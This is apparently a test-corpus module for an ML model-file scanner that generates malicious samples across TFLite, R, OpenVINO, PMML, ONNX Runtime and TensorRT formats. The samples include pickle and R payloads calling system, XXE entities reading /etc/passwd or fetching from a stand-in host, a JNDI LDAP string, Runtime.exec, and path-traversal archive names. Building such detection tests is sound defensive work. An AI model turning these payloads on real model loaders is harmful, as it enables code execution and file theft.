"""Techniques in flatbuffers, OpenVINO, PMML, R files, engines, native programs and scripts."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from typing import TYPE_CHECKING

from chainguard_ml.model import Severity
from tests.corpus import build_rds as r
from tests.corpus.build_flatbuffer import flatbuffer, flex_options, node_def, tflite
from tests.corpus.frame import malicious

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from tests.corpus.build_flatbuffer import Table
    from tests.corpus.frame import Malicious

PAYLOAD = b"\x80\x02cos\nsystem\nX\x09\0\0\0echo seen\x85R."
_BOUNDS = "flatbuffer-out-of-bounds"


def samples() -> Iterator[Malicious]:
    """Everything of this area."""
    yield from _tflite_operators()
    yield from _tflite_structure()
    yield from _r_promises()
    yield from _r_code()
    yield from _xml_entities()
    yield from _openvino()
    yield from _pmml()
    yield from _ort()
    yield from _programs()


def zipped(name: str, data: bytes) -> bytes:
    """Return a zip archive of one member."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    return stream.getvalue()


def flex(code: str, name: str, op: str) -> bytes:
    """Return a model with one operator of the Flex delegate."""
    options = flex_options(name.encode(), node_def("node", op))
    return tflite([{0: ("b", 32), 1: code}], [{0: ("I", 0), 1: [0], 2: [1], 5: options}])


def _tflite_operators() -> Iterator[Malicious]:
    for op, rule in (
        *dict.fromkeys(("ReadFile", "WriteFile", "MatchingFiles", "LoadDataset"), "graph-file-access").items(),
        *dict.fromkeys(("PyFunc", "EagerPyFunc"), "graph-calls-python").items(),
        ("RpcCall", "graph-network-access"),
        ("Abort", "graph-harmful-operator"),
    ):
        yield malicious(f"tflite-flex-{op}", "model.tflite", flex(f"Flex{op}", op, op), rule)
    yield malicious("tflite-flex-node-differs", "m.tflite", flex("FlexAdd", "Add", "ReadFile"), "graph-file-access")
    yield malicious("tflite-flex-options-differ", "m.tflite", flex("FlexAdd", "WriteFile", "Add"), "graph-file-access")
    extended = tflite([{3: ("i", 32), 1: "Evil"}])
    custom = "custom-operator"
    yield malicious("tflite-custom-operator", "m.tflite", tflite([{0: ("b", 32), 1: "Evil"}]), custom, least=_MEDIUM)
    yield malicious("tflite-custom-operator-extended", "m.tflite", extended, custom, least=_MEDIUM)
    yield malicious("tflite-custom-unused", "m.bin", tflite([{}, {0: ("b", 32), 1: "Run"}]), custom, least=_MEDIUM)


def _tflite_structure() -> Iterator[Malicious]:
    pickled = tflite(buffers=[{}, {0: PAYLOAD}])
    yield malicious("tflite-pickle-in-buffer", "m.tflite", pickled, "dangerous-global")
    outside = tflite(buffers=[{}, {1: ("Q", 64), 2: ("Q", 1 << 62)}])
    yield malicious("tflite-buffer-outside", "m.tflite", outside, _BOUNDS)
    base = tflite()
    far = base + bytes(16) + PAYLOAD
    large = tflite(buffers=[{}, {1: ("Q", 2), 2: ("Q", len(PAYLOAD))}])
    place = large.index((2).to_bytes(8, "little") + len(PAYLOAD).to_bytes(8, "little"))
    large = large[:place] + len(large).to_bytes(8, "little") + large[place + 8 :] + PAYLOAD
    yield malicious("tflite-pickle-in-far-buffer", "m.tflite", large, "dangerous-global")
    yield malicious("tflite-appended-zip", "m.tflite", far + zipped("labels.pkl", PAYLOAD), "dangerous-global")
    escaping = base + zipped("../../.bashrc", b"labels")
    yield malicious("tflite-appended-zip-escapes", "m.tflite", escaping, "archive-path-traversal")
    for name in ("../../../etc/passwd", "/etc/shadow", "C:\\weights.bin"):
        data = tflite(f8=[{0: name}])
        yield malicious(f"tflite-external-{name[:3]}", "m.tflite", data, "external-data-escapes")
    operators: dict[str, Table] = {
        "tensor": {0: ("I", 0), 1: [7], 2: [1]},
        "negative": {0: ("I", 0), 1: [-2], 2: [1]},
        "code": {0: ("I", 3), 1: [0], 2: [1]},
    }
    for what, operator in operators.items():
        yield malicious(f"tflite-index-{what}", "m.tflite", tflite(operators=[operator]), _BOUNDS)
    for code, options in ((118, {0: ("i", 0)}), (119, {1: ("i", 0)}), (118, {0: ("i", 9)})):
        call: Table = {0: ("I", 0), 3: ("B", 1), 4: options}
        data = tflite([{0: ("b", code)}], [call])
        yield malicious(f"tflite-subgraph-{code}-{options}", "m.tflite", data, _BOUNDS)
    wild = bytearray(base)
    wild[0:4] = b"\xf0\xff\xff\xff"
    yield malicious("tflite-wild-root", "m.tflite", bytes(wild), _BOUNDS)


def _r_promises() -> Iterator[Malicious]:
    run = r.call("system", r.strings("echo seen"))
    top = r.rds(r.promise(run))
    listed = r.vector(r.doubles(1.0), r.promise(run))
    places = {
        "top": top,
        "version-2": r.rds(r.promise(run), 2),
        "ascii": r.ASCII_CALL,
        "native": r.native(r.rds(r.promise(r.GLOBAL), 2)),
        "in-list": r.rds(listed),
        "in-attribute": r.rds(r.vector(r.doubles(1.0), attributes=r.pairs(("names", r.promise(run))))),
        "in-call": r.rds(r.call("lm", r.promise(run))),
        "of-bytecode": r.rds(r.promise(r.bytecode(r.integer(1) + r.symbol("system")))),
        "of-name": r.rds(r.promise(r.symbol("q"))),
        "in-promise": r.rds(r.promise(r.promise(run))),
        "has-value": r.rds(r.promise(run, r.doubles(1.0))),
        "gzip": gzip.compress(top, mtime=0),
        "bzip2": bz2.compress(top),
        "xz": lzma.compress(top),
        "then-broken": r.rds(r.vector(r.promise(run), r.integer(99))),
    }
    for name, data in places.items():
        yield malicious(f"rds-promise-{name}", "model.rds", data, "r-promise")
    yield malicious("rdata-promise", "model.RData", r.workspace(("m", r.promise(run))), "r-promise")
    yield malicious("rda-promise-2", "m.rda", r.workspace(("m", r.promise(run)), version=2), "r-promise")
    yield malicious("rds-promise-renamed", "weights.safetensors", top, "r-promise")


def _r_code() -> Iterator[Malicious]:
    run = r.call("system", r.strings("echo seen"))
    qualified = r.pairs(r.call("::", r.symbol("base"), r.symbol("system")), r.strings("echo seen"), kind=6)
    terms = r.call("~", r.symbol("y"), r.symbol("x"))
    model = r.vector(terms, attributes=r.pairs(("predvars", r.call("list", run))))
    builtin = r.pairs(r.integer(8, 9) + b".Internal", r.symbol("x"), kind=6)
    calls = {
        "plain": r.rds(run),
        "qualified": r.rds(qualified),
        "predvars": r.rds(model),
        "expression": r.rds(r.integer(20, 1) + run),
        "formula": r.rds(r.call("~", r.symbol("y"), r.call("I", r.call("download.file", r.strings("u"))))),
        "builtin": r.rds(builtin),
        "native": r.rds(r.call(".Call", r.symbol("x"))),
    }
    for name, data in calls.items():
        yield malicious(f"rds-call-{name}", "model.rds", data, "r-unsafe-call")
    text = r.rds(r.call("eval", r.call("parse", ("text", r.strings("1")))))
    yield malicious("rds-call-eval", "model.rds", text, "r-unsafe-call", least=Severity.MEDIUM)
    carried = "r-carries-code"
    yield malicious("rds-closure", "model.rds", r.rds(r.closure(run)), carried)
    yield malicious(
        "rds-closure-bytecode", "model.rds", r.rds(r.closure(r.bytecode(r.integer(16) + r.strings("a")))), carried
    )
    yield malicious(
        "rds-bytecode",
        "model.rds",
        r.rds(r.bytecode(r.integer(6) + r.NIL + r.integer(0) + r.symbol("f") + r.integer(0) + r.NIL)),
        carried,
    )
    frame = r.rds(r.environment(("x", r.promise(run))))
    yield malicious("rds-promise-in-environment", "model.rds", frame, carried)
    dots = r.rds(r.environment(("...", r.pairs(r.promise(run), kind=17))))
    yield malicious("rds-promise-in-dots", "model.rds", dots, carried)
    active = r.integer(4, 0) + r.GLOBAL + r.integer(2 | r.TAG | 1 << 27) + r.symbol("x") + r.symbol("f") + r.NIL * 3
    yield malicious("rds-active-binding", "model.rds", r.rds(active), carried)
    for name in (".First", ".Last"):
        data = r.workspace((name, r.closure(run)))
        yield malicious(f"rdata{name}", ".RData", data, "r-startup-function")
    mapped = r.altrep("mmap_real", "base", r.strings("/etc/passwd"))
    yield malicious("rds-mapped-vector", "model.rds", r.rds(mapped), "r-native-object")
    foreign = r.altrep("evil", "unknownpkg", r.NIL)
    yield malicious("rds-foreign-class", "model.rds", r.rds(foreign), "r-native-object")


def _xml_entities() -> Iterator[Malicious]:
    net = b'<net name="n" version="11"><layers/></net>'
    pmml = b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>'
    types = {
        "external": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "parameter": b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://e.example/x.dtd"> %e;]>',
        "laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    }
    for what, declared in types.items():
        for name, root in (("net.xml", net), ("model.pmml", pmml), ("config.xml", b"<config/>")):
            data = b'<?xml version="1.0"?>' + declared + root
            yield malicious(f"xml-entity-{what}-{name}", name, data, "xml-entity")
    plain = b'<!DOCTYPE x [<!ENTITY a "ha">]>'
    yield malicious("xml-entity-text", "model.pmml", plain + pmml, "xml-entity")
    wide = (b'<?xml version="1.0" encoding="utf-16"?>' + types["external"] + pmml).decode().encode("utf-16")
    yield malicious("xml-entity-utf-16", "model.pmml", wide, "xml-entity")
    late = b"<!--" + b" " * 200_000 + b"-->" + types["external"] + net
    yield malicious("xml-entity-behind-a-comment", "net.xml", late, "xml-entity")
    include = pmml.replace(b"<Header/>", b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')
    yield malicious("xml-include", "model.pmml", include, "xml-entity")
    stream = b'<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.lang.Runtime"/></java>'
    yield malicious("xml-decoder", "model.xml", stream, "xml-object-stream")


def layer(kind: str, version: str = "opset1", inner: str = "") -> bytes:
    """Return a network of one layer."""
    head = '<?xml version="1.0"?><net name="n" version="11"><layers>'
    attributes = f'id="0" name="x" type="{kind}"' + (f' version="{version}"' if version else "")
    return f"{head}<layer {attributes}>{inner}</layer></layers><edges/></net>".encode()


def _openvino() -> Iterator[Malicious]:
    custom = "custom-operator"
    yield malicious("openvino-extension", "m.xml", layer("Evil", "extension"), custom, least=_MEDIUM)
    yield malicious("openvino-unknown-type", "m.xml", layer("Evil"), custom, least=_MEDIUM)
    yield malicious("openvino-unknown-set", "m.xml", layer("Add", "my_opset"), custom, least=_MEDIUM)
    body = f"<body>{layer('Evil', 'extension').decode()[22:]}</body>"
    yield malicious("openvino-in-a-body", "m.xml", layer("Loop", "opset5", body), custom, least=_MEDIUM)
    for what, place in {
        "huge": 'offset="18446744073709551615" size="16"',
        "negative": 'offset="-8" size="16"',
        "no-number": 'offset="0x10" size="16"',
        "overflow": 'offset="0" size="16" shape="4294967296,4294967296,4294967296"',
    }.items():
        shape = "" if "shape" in place else 'shape="4"'
        constant = f'<data element_type="f32" {shape} {place}/>'
        data = layer("Const", "opset1", constant)
        yield malicious(f"openvino-constant-{what}", "m.xml", data, "openvino-constant-mismatch")
    small = layer("Const", "opset1", '<data element_type="f32" shape="4,4" offset="0" size="16"/>')
    yield malicious("openvino-constant-small", "m.xml", small, "openvino-constant-mismatch", least=_MEDIUM)
    source = b'<Kernel entry="e"><Source filename="../../k.cl"/></Kernel>'
    kernel = b'<CustomLayer name="Evil" type="SimpleGPU" version="1">' + source + b"</CustomLayer>"
    yield malicious("openvino-custom-layer", "custom.xml", kernel, custom, least=_MEDIUM)
    yield malicious("openvino-kernel-outside", "custom.xml", kernel, "external-data-escapes")


def pmml(inner: str) -> bytes:
    """Return a document around some elements."""
    return f'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{inner}</PMML>'.encode()


def _pmml() -> Iterator[Malicious]:
    derived = '<DerivedField name="d" optype="continuous" dataType="double"><Apply function="{}"/></DerivedField>'
    for name in ("org.example.Evil", "com.evil.Run:call", "java.lang.Runtime#exec", "javax/script/Engine"):
        data = pmml(derived.format(name))
        yield malicious(f"pmml-class-{name[:9]}", "m.pmml", data, "pmml-foreign-function")
    unknown = pmml(derived.format("runEvil"))
    yield malicious("pmml-unknown-function", "m.pmml", unknown, "pmml-foreign-function", least=_MEDIUM)
    for what, inner in {
        "python": '<Extension name="code" value="__import__(&apos;os&apos;).system(&apos;echo seen&apos;)"/>',
        "text": "<Extension>import os\nos.system('echo seen')</Extension>",
        "java": '<Extension extender="x"><a>Runtime.getRuntime().exec("echo")</a></Extension>',
        "script": "<Extension><script>alert(1)</script></Extension>",
        "vendor": "<X-Vendor-Script>echo</X-Vendor-Script>",
        "build": '<MiningBuildTask><Extension name="x" value="subprocess.run(1)"/></MiningBuildTask>',
        "jndi": '<Extension value="${jndi:ldap://e.example/a}"/>',
        "split": "<Extension>os.<!-- -->system('x')</Extension>",
        "shell": "<Extension>powershell -enc AAAA</Extension>",
    }.items():
        yield malicious(f"pmml-code-{what}", "m.pmml", pmml(inner), "pmml-embedded-code")
    table = pmml('<Taxonomy><TableLocator><Extension name="url" value="jdbc:x"/></TableLocator></Taxonomy>')
    yield malicious("pmml-table-locator", "m.pmml", table, "pmml-external-table", least=_MEDIUM)
    packed = gzip.compress(pmml(derived.format("org.example.Evil")), mtime=0)
    yield malicious("pmml-gzip", "m.pmml.gz", packed, "pmml-foreign-function")


def ort(nodes: Sequence[Table], graph: Table | None = None, metadata: Sequence[Table] = ()) -> bytes:
    """Return a model in ONNX Runtime's format."""
    fields: Table = {0: ("q", 8), 7: {2: list(nodes), **(graph or {})}, 9: list(metadata)}
    return flatbuffer({0: "6", 1: fields}, b"ORTM")


def _ort() -> Iterator[Malicious]:
    custom = "custom-operator"
    yield malicious("ort-custom-operator", "m.ort", ort([{5: "Evil", 2: "com.evil"}]), custom, least=_MEDIUM)
    yield malicious("ort-standard-domain", "m.ort", ort([{5: "Evil"}]), custom, least=_MEDIUM)
    python = ort([{5: "PyOp", 2: "ai.onnx.contrib"}])
    yield malicious("ort-python-operator", "m.ort", python, "graph-calls-python")
    inner: Table = {2: [{5: "Evil", 2: "com.evil"}]}
    nested = ort([{5: "If", 10: [{7: inner}, {12: [inner]}]}])
    yield malicious("ort-nested-operator", "m.ort", nested, custom, least=_MEDIUM)
    yield malicious("ort-pickle-in-tensor", "m.ort", ort([], {0: [{4: PAYLOAD}]}), "dangerous-global")
    yield malicious("ort-pickle-in-attribute", "m.ort", ort([{5: "Add", 10: [{6: {4: PAYLOAD}}]}]), "dangerous-global")
    expression = ort([], metadata=[{0: "names", 1: "__import__('os').system('echo seen')"}])
    yield malicious("ort-metadata-expression", "m.ort", expression, "metadata-expression")
    wild = ort([])[:4] + b"ORTM" + b"\xff" * 40
    yield malicious("ort-wild-offsets", "m.ort", wild, _BOUNDS, least=_MEDIUM)


ENGINE = b"ftrt" + bytes(28)
PROGRAMS = {
    "elf": b"\x7fELF\2\1\1" + bytes(60),
    "pe": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(20),
    "mach-o": b"\xcf\xfa\xed\xfe" + bytes(28),
    "fat": b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(40),
    "wasm": b"\0asm\1\0\0\0" + bytes(8),
    "java-class": b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(40),
    "dex": b"dex\n035\0" + bytes(40),
    "pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20),
    "pyc-2": b"\x03\xf3\r\n" + bytes(4) + b"c" + bytes(20),
    "llvm": b"BC\xc0\xde" + bytes(20),
}
SCRIPTS = {
    "run.sh": b"#!/bin/sh\necho seen\n",
    "run": b"#! /usr/bin/env python3\nprint(1)\n",
    "run.bat": b"@echo off\r\necho seen\r\n",
    "run.ps1": b"Write-Host seen\r\n",
    "run.lnk": b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60),
}


JAVA = b"\xac\xed\0\x05sr\0\x11java.util.HashMap" + bytes(12) + b"xpr\0\x0cjava.net.URL" + bytes(12)


def _programs() -> Iterator[Malicious]:
    """Programs and scripts under a model's name, in a model's archive, behind a model, in a tensor."""
    yield malicious("java-objects", "weka.model", JAVA, "java-objects-carry-code")
    yield malicious("java-objects-gzip", "weka.model.gz", gzip.compress(JAVA, mtime=0), "java-objects-carry-code")
    for name, data in PROGRAMS.items():
        yield malicious(f"program-{name}", "model.pt", data, "native-code-in-model")
        member = zipped(f"extra/{name}", data)
        yield malicious(f"program-{name}-appended", "m.tflite", tflite() + member, "native-code-in-model")
    yield malicious("program-in-buffer", "m.tflite", tflite(buffers=[{}, {0: PROGRAMS["elf"]}]), "native-code-in-model")
    for name, data in SCRIPTS.items():
        if name != "run.ps1":  # nothing but its name says what it is
            yield malicious(f"script-{name}", "model.bin", data, "script-in-model")
        yield malicious(f"script-{name}-member", "m.tflite", tflite() + zipped(name, data), "script-in-model")
    yield malicious("tensorrt", "model.engine", ENGINE, "tensorrt-carries-code")
    yield malicious("tensorrt-old", "model.plan", b"ptrt" + bytes(60), "tensorrt-carries-code")
    metadata = b'{"names": {"0": "cat"}}'
    fronted = len(metadata).to_bytes(4, "little") + metadata + ENGINE + b"Evil_Plugin\0"
    yield malicious("tensorrt-behind-metadata", "yolo.engine", fronted, "tensorrt-carries-code")
    yield malicious("tensorrt-appended-zip", "m.engine", ENGINE + zipped("a.pkl", PAYLOAD), "dangerous-global")
    image = b"RIFF\x24\0\0\0WAVE" + bytes(20)
    yield malicious("sound-under-a-name-of-weights", "model.pt", image, "format-mismatch", least=Severity.LOW)
    yield malicious("sound-with-a-zip", "a.wav", image + zipped("a.pkl", PAYLOAD), "dangerous-global")
    number = b"GIF89a\0\0\0" + b"0" + PAYLOAD[2:]  # opcode G and eight bytes; taken away again; the call
    yield malicious("image-that-is-a-pickle", "model.bin", number, "dangerous-global")


_MEDIUM = Severity.MEDIUM
